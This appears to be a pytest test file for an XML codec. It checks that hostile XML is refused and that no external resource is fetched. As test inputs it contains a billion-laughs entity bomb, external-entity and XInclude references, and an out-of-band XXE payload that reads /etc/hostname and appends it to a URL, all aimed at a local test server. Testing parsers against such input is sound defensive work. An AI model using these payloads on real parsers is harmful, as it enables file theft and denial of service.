"""XML that means harm: refused for what it is, and nothing that it names is fetched."""

import socket
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from rectify_model.codec import loads
from rectify_model.errors import DocumentError
from rectify_model.model import Report

HEAD = '<report xmlns="urn:rectify-model:1" schema_version="1.0" id="r"'
INCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{uri}" parse="text"/>'
INSTANCE = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
CONFIDENTIAL = "not for everybody"


def problems(text: str) -> list[tuple[str, int | None, int | None]]:
    with pytest.raises(DocumentError) as caught:
        loads(text, "xml")
    return [(problem.code, problem.line, problem.column) for problem in caught.value.problems]


@pytest.mark.parametrize(
    ("text", "line", "column"),
    [
        ("<!DOCTYPE report><report/>", 1, 1),
        ('<!DOCTYPE report [<!ATTLIST report id CDATA "r">]><report/>', 1, 1),
        (f'<!DOCTYPE r [<!ENTITY l0 "ha">{LAUGHS}]><report id="&l11;">&l11;</report>', 1, 1),
        ('<?xml version="1.0"?>\n<!-- <!DOCTYPE a> -->\n <!DOCTYPE report><report/>', 3, 2),
        ("\ufeff<?a <!DOCTYPE ?><?b?><!DOCTYPE report><report/>", 1, 22),
    ],
)
def test_a_doctype_is_refused(text: str, line: int, column: int) -> None:
    assert problems(text) == [("RM904", line, column)]


def test_the_word_doctype_in_a_text_is_none() -> None:
    text = f"<!-- <!DOCTYPE a> -->{HEAD}><title><![CDATA[<!DOCTYPE b>]]></title></report>"
    assert loads(text).title == "<!DOCTYPE b>"


@pytest.mark.parametrize("case", ["<!doctype report>", "<!DocType report>"])
def test_no_other_case_smuggles_a_doctype_in(case: str) -> None:
    assert [code for code, *_ in problems(f"{case}{HEAD}/>")] == ["RM903"]


# Each names something outside that a careless reader would fetch.
OUTSIDE: dict[str, tuple[str, str | None]] = {
    "external subset": ('<!DOCTYPE report SYSTEM "{uri}">' + HEAD + "/>", "RM904"),
    "public subset": ('<!DOCTYPE report PUBLIC "-//a" "{uri}">' + HEAD + "/>", "RM904"),
    "external entity": (
        '<!DOCTYPE r [<!ENTITY x SYSTEM "{uri}">]>' + HEAD + "><title>&x;</title></report>",
        "RM904",
    ),
    "parameter entity": ('<!DOCTYPE r [<!ENTITY % x SYSTEM "{uri}"> %x;]>' + HEAD + "/>", "RM904"),
    "parameter entity that sends a file": (
        '<!DOCTYPE r [<!ENTITY % a SYSTEM "file:///etc/hostname"><!ENTITY % b "<!ENTITY &#37; c '
        "SYSTEM '{uri}?%a;'>\"> %b; %c;]>" + HEAD + "/>",
        "RM904",
    ),
    "XInclude for a field": (HEAD + f">{INCLUDE}</report>", "RM910"),
    "XInclude in a text": (HEAD + f"><title>{INCLUDE}</title></report>", "RM922"),
    "XInclude for the root": (INCLUDE, "RM907"),
    "base": (HEAD + ' xml:base="{uri}"/>', "RM910"),
    "type of another schema": (HEAD + f' {INSTANCE} xsi:type="{{uri}}"/>', "RM910"),
    "hint of a schema": (
        HEAD + f' {INSTANCE} xsi:schemaLocation="urn:rectify-model:1 {{uri}}"/>',
        None,
    ),
    "hint of a schema without namespace": (
        HEAD + f' {INSTANCE} xsi:noNamespaceSchemaLocation="{{uri}}"/>',
        None,
    ),
    "style sheet": ('<?xml-stylesheet href="{uri}"?>' + HEAD + "/>", None),
    "model": ('<?xml-model href="{uri}"?>' + HEAD + "/>", None),
    "namespace": (HEAD + ' xmlns:a="{uri}"/>', None),
}


def outcome(text: str) -> str:
    """Return all that the library says of a document: what it read, or why it did not."""
    try:
        return repr(loads(text, "xml"))
    except DocumentError as error:
        return "\n".join(f"{problem} {problem.message_zh}" for problem in error.problems)


@pytest.fixture
def has_callers(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[int, Callable[[], bool]]]:
    """A server on this machine: its port, and whether anybody has called since last asked.

    Nothing in Python can make a socket meanwhile; libxml2 makes its own, and would be noticed.
    """
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)

        def called() -> bool:
            try:
                server.accept()[0].close()
            except BlockingIOError:
                return False
            return True

        port = server.getsockname()[1]
        socket.create_connection(("127.0.0.1", port)).close()
        assert called()
        for name in ("connect", "connect_ex", "sendto"):
            monkeypatch.setattr(socket.socket, name, None)
        for name in ("create_connection", "getaddrinfo", "gethostbyname"):
            monkeypatch.setattr(socket, name, None)
        yield port, called


@pytest.mark.parametrize(("text", "code"), OUTSIDE.values(), ids=OUTSIDE)
def test_nothing_is_fetched(
    text: str, code: str | None, has_callers: tuple[int, Callable[[], bool]], tmp_path: Path
) -> None:
    port, called = has_callers
    secret = tmp_path / "secret.txt"
    secret.write_text(CONFIDENTIAL, encoding="utf-8")
    host = f"127.0.0.1:{port}"
    for uri in (f"http://{host}/a", f"ftp://{host}/a", f"//{host}/a", secret.as_uri(), str(secret)):
        said = outcome(text.replace("{uri}", uri))
        assert (f"error {code} " in said) if code else said == repr(Report(id="r"))
        assert CONFIDENTIAL not in said
        assert not called()
    assert list(tmp_path.iterdir()) == [secret]


@pytest.mark.parametrize(
    ("text", "code"),
    [
        (HEAD + ' id="s"/>', "RM903"),
        (HEAD + ' schema_version="1.0"/>', "RM903"),
        (HEAD + ' xmlns:a="u" xmlns:b="u" a:c="" b:c=""/>', "RM903"),
        (HEAD + ' xmlns="urn:rectify-model:1"/>', "RM903"),
        # In our namespace by its prefix, so another name than that of the field.
        (HEAD + ' xmlns:p="urn:rectify-model:1" p:id="s"/>', "RM910"),
    ],
)
def test_an_attribute_twice_is_refused(text: str, code: str) -> None:
    assert [code for code, *_ in problems(text)] == [code]


@pytest.mark.parametrize(
    ("text", "code", "column"),
    [
        ('<report schema_version="1.0" id="r"/>', "RM907", 1),
        ('<report xmlns="" schema_version="1.0" id="r"/>', "RM907", 1),
        (HEAD.replace("urn", "URN") + "/>", "RM907", 1),
        (HEAD.replace(":1", ":2") + "/>", "RM907", 1),
        (HEAD.replace(":1", ":2").replace("1.0", "2.0") + "/>", "RM908", 1),
        (HEAD + '><title xmlns="urn:other">x</title></report>', "RM910", 65),
        (HEAD + '><title xmlns="">x</title></report>', "RM910", 65),
        (HEAD + ' xmlns:a="urn:other" a:title="x"/>', "RM910", 1),
        ('<r:report schema_version="1.0" id="r"/>', "RM903", None),
        (HEAD + ' xmlns:xml="urn:other"/>', "RM903", None),
        (HEAD + ' xmlns:xmlns="urn:other"/>', "RM903", None),
    ],
)
def test_a_wrong_namespace_is_refused(text: str, code: str, column: int | None) -> None:
    ((found, line, at),) = problems(text)
    assert (found, line) == (code, 1)
    assert column in (None, at)


@pytest.mark.parametrize(
    "reference", ["&x;", "&#0;", "&#x1F;", "&#xD800;", "&#xFFFE;", "&#9" + "9" * 99]
)
def test_a_reference_to_nothing_is_refused(reference: str) -> None:
    for text in (f">{reference}</report>", f' title="{reference}"/>'):
        assert [code for code, *_ in problems(HEAD + text)] == ["RM903"]


def test_a_parameter_entity_outside_a_doctype_is_text() -> None:
    assert loads(f"{HEAD}><title>%x;</title></report>").title == "%x;"
    assert problems(f"{HEAD}>%x;</report>") == [("RM921", 1, 1)]


@pytest.mark.parametrize(
    "end", ["/><report/>", "/>text", "/>&#32;", "/><![CDATA[]]>", "/>\0", '/><?xml version="1.0"?>']
)
def test_nothing_but_comments_may_follow_the_root(end: str) -> None:
    assert [code for code, *_ in problems(HEAD + end)] == ["RM903"]
    assert loads(f"{HEAD}/><!-- a --><?b?>\n") == Report(id="r")
